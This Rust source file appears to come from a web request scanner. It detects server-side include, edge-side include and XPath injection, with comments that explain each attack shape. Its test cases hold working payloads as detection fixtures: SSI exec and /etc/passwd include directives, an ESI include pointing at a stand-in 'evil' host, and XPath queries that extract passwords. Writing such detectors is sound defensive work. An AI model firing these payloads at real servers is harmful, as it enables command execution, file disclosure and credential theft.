//! Server-side includes, edge-side includes and XPath injection.
//!
//! *SSI*: a page served through mod_include (or IIS `.shtml`) runs directives written
//! as HTML comments that start with `#`: `<!--#exec cmd="id" -->`,
//! `<!--#include virtual="/etc/passwd" -->`, `<!--#echo var="DOCUMENT_ROOT" -->`.
//! A comment fires only when `#` is followed by one of the directive names, so HTML
//! comments and `<!--#` in prose do not.
//!
//! *ESI*: caches and CDNs run `<esi:include src=…>`, `<esi:vars>`, `<esi:debug/>` tags
//! found in responses; any `<esi:` element in a request value is an injection.
//!
//! *XPath*: the quote-breaking tautology (`' or '1'='1`) is left to the SQL detector;
//! here the shapes only XPath has: node-set functions applied to paths
//! (`count(/child::node())`, `string-length(//user[1]/name)`), axes (`child::`,
//! `ancestor-or-self::`), location steps with predicates (`//user[name/text()=`),
//! node tests compared after a quote break (`' or name()='admin`) and path unions
//! closing a predicate (`')] | //user/*`).

use super::Detection;
use super::bytes::ByteSet;
use super::jndi::{find, on_renderings};

/// SSI directive names (Apache mod_include, IIS).
const SSI_DIRECTIVES: &[&[u8]] = &[
    b"exec",
    b"include",
    b"echo",
    b"printenv",
    b"config",
    b"set",
    b"fsize",
    b"flastmod",
    b"if",
    b"elif",
    b"else",
    b"endif",
];

/// XPath functions that take a node set or path as an argument.
const XPATH_FUNCTIONS: &[&[u8]] = &[
    b"count",
    b"name",
    b"local-name",
    b"namespace-uri",
    b"string",
    b"string-length",
    b"substring",
    b"contains",
    b"starts-with",
    b"normalize-space",
    b"sum",
    b"boolean",
    b"number",
    b"translate",
    b"concat",
    b"substring-before",
    b"substring-after",
    b"lang",
];

/// XPath node tests and position functions that take no argument: `name()`, `text()`.
const XPATH_NULLARY: &[&[u8]] = &[
    b"name",
    b"text",
    b"node",
    b"position",
    b"last",
    b"comment",
    b"local-name",
];

/// XPath axes, written `axis::`.
const XPATH_AXES: &[&[u8]] = &[
    b"child",
    b"descendant",
    b"descendant-or-self",
    b"ancestor",
    b"ancestor-or-self",
    b"parent",
    b"following",
    b"following-sibling",
    b"preceding",
    b"preceding-sibling",
    b"attribute",
    b"self",
    b"namespace",
];

/// Detects SSI, ESI or XPath injection in `input` (also read decoded once more, for
/// values the request parser leaves encoded).
pub fn ssi(input: &[u8]) -> Option<Detection> {
    on_renderings(input, detect)
}

fn detect(input: &[u8]) -> Option<Detection> {
    // Fast path: each scan runs only if the value has the byte all its hits contain
    // (`!--#`, `<esi:`, `name(`, `::`, `/…[`, `]` of a closed predicate); skipping a
    // scan that cannot hit leaves the first hit of the chain unchanged.
    let set = ByteSet::of(input);
    if !set.any_of(ByteSet::new(b"#<(:[]")) {
        return None;
    }
    let lower = input.to_ascii_lowercase();
    let lower = lower.as_slice();
    let gated = |byte: u8, scan: fn(&[u8]) -> Option<Found>| {
        move || if set.has(byte) { scan(lower) } else { None }
    };
    let (confidence, start, fingerprint) = gated(b'#', ssi_directive)()
        .or_else(gated(b'<', esi_tag))
        .or_else(gated(b'(', xpath_function))
        .or_else(gated(b':', xpath_axis))
        .or_else(gated(b'[', xpath_step))
        .or_else(gated(b']', xpath_union))?;
    let end = (start + MAX_SHOWN).min(input.len());
    Some(Detection::new(
        confidence,
        input.get(start..end).unwrap_or(input),
        fingerprint,
    ))
}

/// How much of the value from the finding on goes into the fragment.
const MAX_SHOWN: usize = 80;

type Found = (f64, usize, &'static str);

/// An XPath name character (names may contain `-`).
fn is_name(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'-'
}

fn name_end(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(|&c| is_name(c)) {
        i += 1;
    }
    i
}

fn skip_spaces(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(u8::is_ascii_whitespace) {
        i += 1;
    }
    i
}

/// Whether position `i` starts a name (the byte before is not a name byte).
fn name_start(s: &[u8], i: usize) -> bool {
    i == 0 || !s.get(i - 1).is_some_and(|&c| is_name(c))
}

/// `<!--#directive`, also HTML-escaped as `&lt;!--#directive`.
fn ssi_directive(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"!--#", from) {
        from = p + 1;
        let opener = p.checked_sub(1).and_then(|q| lower.get(q)) == Some(&b'<')
            || p.checked_sub(4).and_then(|q| lower.get(q..p)) == Some(b"&lt;");
        let word_end = name_end(lower, p + 4);
        let word = lower.get(p + 4..word_end).unwrap_or_default();
        if opener && SSI_DIRECTIVES.contains(&word) {
            let confidence = if matches!(word, b"exec" | b"include") {
                0.95
            } else {
                0.9
            };
            return Some((confidence, p.saturating_sub(4), "ssi:directive"));
        }
    }
    None
}

/// `<esi:include …>`, `<esi:vars>`, `<esi:debug/>`.
fn esi_tag(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"<esi:", from) {
        from = p + 1;
        if lower.get(p + 5).is_some_and(u8::is_ascii_alphabetic) {
            return Some((0.9, p, "esi:tag"));
        }
    }
    None
}

/// `count(/child::node())`, `substring(//user[1]/name,1,1)`, `contains(*,'x')` and
/// nullary node tests compared after a quote break: `' or name()='admin`.
fn xpath_function(lower: &[u8]) -> Option<Found> {
    let quote = lower.iter().position(|&c| c == b'\'' || c == b'"');
    let mut i = 0;
    while i < lower.len() {
        if !lower.get(i).is_some_and(u8::is_ascii_alphabetic) || !name_start(lower, i) {
            i += 1;
            continue;
        }
        let end = name_end(lower, i);
        let name = lower.get(i..end).unwrap_or_default();
        if lower.get(end) == Some(&b'(') {
            let arg = skip_spaces(lower, end + 1);
            // `count(*)` is SQL as much as XPath: a bare `*` must be followed by more path.
            let star_path = lower.get(arg) == Some(&b'*')
                && matches!(lower.get(arg + 1), Some(b',' | b'[' | b'/'));
            // `@@version` is a SQL variable; an XPath attribute step is `@name` or `@*`.
            let attribute = lower.get(arg) == Some(&b'@')
                && lower
                    .get(arg + 1)
                    .is_some_and(|&c| c == b'*' || c.is_ascii_alphabetic());
            let path_arg = lower.get(arg) == Some(&b'/')
                || attribute
                || star_path
                || lower
                    .get(arg..)
                    .is_some_and(|r| r.starts_with(b"./") || r.starts_with(b"../"));
            if XPATH_FUNCTIONS.contains(&name) && path_arg {
                return Some((0.8, i, "xpath:function-path"));
            }
            let nullary = XPATH_NULLARY.contains(&name) && lower.get(end + 1) == Some(&b')');
            if nullary
                && compared(lower, end + 2)
                && (quote.is_some_and(|q| q < i) || after_slash(lower, i))
            {
                return Some((0.75, i, "xpath:node-test"));
            }
        }
        i = end.max(i + 1);
    }
    None
}

/// Whether a comparison or predicate end follows position `i`.
fn compared(s: &[u8], i: usize) -> bool {
    let j = skip_spaces(s, i);
    match s.get(j) {
        Some(b'=' | b'<' | b'>' | b']') => true,
        Some(b'!') => s.get(j + 1) == Some(&b'='),
        _ => false,
    }
}

fn after_slash(s: &[u8], i: usize) -> bool {
    i.checked_sub(1).and_then(|p| s.get(p)) == Some(&b'/')
}

/// `child::node()`, `ancestor-or-self::*`, `/descendant::user`.
fn xpath_axis(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"::", from) {
        from = p + 2;
        let start = (0..p)
            .rev()
            .take_while(|&j| lower.get(j).is_some_and(|&c| is_name(c)))
            .last();
        let Some(start) = start else {
            continue;
        };
        let axis = lower.get(start..p).unwrap_or_default();
        let test = lower.get(p + 2).copied();
        let node_test = test == Some(b'*') || test.is_some_and(|c| c.is_ascii_alphabetic());
        // Axes start a location step: after `/`, `[`, `|` or at the start of the value;
        // after `(` only with a node test (`count(child::node())`). `Self::Item` in Rust
        // and `self::x()` in PHP follow a space or `(` and name no node test.
        let node_function = [&b"node()"[..], b"text()", b"comment()", b"*"]
            .iter()
            .any(|t| lower.get(p + 2..).is_some_and(|r| r.starts_with(t)));
        let before = start.checked_sub(1).and_then(|b| lower.get(b));
        let in_path = start == 0
            || matches!(before, Some(b'/' | b'[' | b'|'))
            || (node_function && before == Some(&b'('));
        // `self::` is also Rust's and PHP's `Self::Item` / `self::method`: only with a
        // node test that those languages never write.
        let plausible = axis != b"self" || node_function;
        if XPATH_AXES.contains(&axis) && node_test && in_path && plausible {
            return Some((0.8, start, "xpath:axis"));
        }
    }
    None
}

/// A location step with a predicate that tests content or picks a position:
/// `//user[name/text()=`, `//user[userid=5]`, `//user[1]/password`, `/*[1]/*[1]`.
fn xpath_step(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"/", from) {
        from = p + 1;
        let double = lower.get(p + 1) == Some(&b'/');
        let step = p + 1 + usize::from(double);
        let wildcard = lower.get(step) == Some(&b'*');
        let name_stop = if wildcard {
            step + 1
        } else {
            name_end(lower, step)
        };
        let named = name_stop > step && lower.get(step).is_some_and(u8::is_ascii_alphabetic);
        // A single `/` step only counts with the `*` wildcard (`/*[1]`); URLs have names.
        if !(wildcard || (double && named)) || lower.get(name_stop) != Some(&b'[') {
            continue;
        }
        if predicate_tests(lower, name_stop + 1) {
            return Some((0.8, p, "xpath:predicate"));
        }
    }
    None
}

/// Whether the predicate starting at `i` (after `[`) compares a child or attribute,
/// calls a function, or is a position followed by another step (`1]/`).
fn predicate_tests(lower: &[u8], i: usize) -> bool {
    let digits = lower
        .get(i..)
        .unwrap_or_default()
        .iter()
        .take_while(|c| c.is_ascii_digit())
        .count();
    if digits > 0 {
        let close = i + digits;
        let next_step = lower
            .get(close + 2)
            .is_some_and(|&c| c == b'*' || c == b'@' || c.is_ascii_alphabetic());
        return lower.get(close) == Some(&b']') && lower.get(close + 1) == Some(&b'/') && next_step;
    }
    let attribute = lower.get(i) == Some(&b'@');
    let inner_start = i + usize::from(attribute);
    let inner = name_end(lower, inner_start);
    let tests = matches!(lower.get(inner), Some(b'=' | b'/' | b'(' | b'<' | b'>'));
    inner > inner_start && tests
}

/// A predicate closed and a new path unioned after a quote break: `')] | //user/*`.
fn xpath_union(lower: &[u8]) -> Option<Found> {
    let quote = lower.iter().position(|&c| c == b'\'' || c == b'"')?;
    let mut from = quote;
    while let Some(p) = find(lower, b"]", from) {
        from = p + 1;
        let bar = skip_spaces(lower, p + 1);
        if lower.get(bar) != Some(&b'|') {
            continue;
        }
        let path = skip_spaces(lower, bar + 1);
        if lower.get(path) == Some(&b'/') {
            return Some((0.8, p.saturating_sub(2), "xpath:union"));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::{self, Hostile};

    #[test]
    fn attacks() {
        let cases: &[&str] = &[
            "<!--#exec cmd=\"whoami\"-->",
            "<!--#include virtual=\"/etc/passwd\" -->",
            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
            "<!--#printenv -->",
            "<!--#config timefmt=\"%A\"-->",
            "<!--#set var=\"x\" value=\"y\"-->",
            "&lt;!--#exec cmd=&quot;/usr/bin/id;--&gt;",
            "<esi:include src=\"http://evil/x\"/>",
            "<esi:debug/>",
            "count(/child::node())",
            "' and count(/@*)=1 and '1'='1",
            "' and count(/comment())=1 and '1'='1",
            "' or name()='admin",
            "substring(//user[userid=5]/username,2,1)=CHAR",
            "string(//user[name/text()='x' and password/text()='y']/account/text())",
            "')] | //user/*[contains(*,'",
            "x'] | //password",
            "/descendant::user",
            "//*[contains(., 'admin')]",
            "//user[@name='x' or '1'='1']",
            "' or //user[1]/password='x",
            "/*[1]/*[1]/text()",
        ];
        test_support::assert_detects_all(ssi, cases);
    }

    #[test]
    fn benign() {
        let cases: &[&str] = &[
            "O'Reilly and sons",
            "select a size",
            "1 or 2 items",
            "rock & roll",
            ":-) ;-) (^_^) <3",
            "C++ Primer (5th Edition) by Lippman",
            "Node.js & Express: {fast} (2nd ed.)",
            "http://example.com/search?q=a+b&page=2#top",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "Calle Mayor 5, 3º B, 28013 Madrid",
            "<!-- a comment -->",
            "<!--#anchor-->",
            "see https://example.com/a//b[1]",
            "http://[::1]:8080/",
            "count (the sheep)",
            "the name() function",
            "std::vector and C++::foo",
            "impl Add { fn f() -> Self::Output { Self::Add } }",
            "use self::module::Item;",
            "see [Self::join] and [`self::read`]",
            "{Smarty_Internal_Write_File::writeFile($a,self::clearConfig())}",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "[a] | b",
            "user@example.com",
            "string(1)",
            "/products/shoes[1]",
            "http://example.com/a[1]/b",
            "see [1]/[2]",
        ];
        test_support::assert_passes_all(ssi, cases);
    }

    #[test]
    fn hostile_inputs_do_not_panic() {
        test_support::assert_total(
            ssi,
            Hostile {
                fixed: vec![
                    b"::".repeat(50_000),
                    b"a::".repeat(50_000),
                    b"]|".repeat(50_000),
                    b"//a[".repeat(30_000),
                    b"<!--#".repeat(30_000),
                    b"name()=".repeat(20_000),
                    b"-".repeat(100_000),
                ],
                // Every truncation of a payload that exercises most of the scanner.
                sample: b"<!--#exec cmd=\"id\"--><esi:include src=\"x\"/>' or name()='a' and count(/child::node())=1 | //user[1]/pw')] | //*[",
                alphabet: b"<!--#exec=\"'()/[]|:*@countname child",
                seed: 0xA5A5_5A5A_1234_4321,
                count: 3000,
                max_len: 40,
            },
        );
    }
}
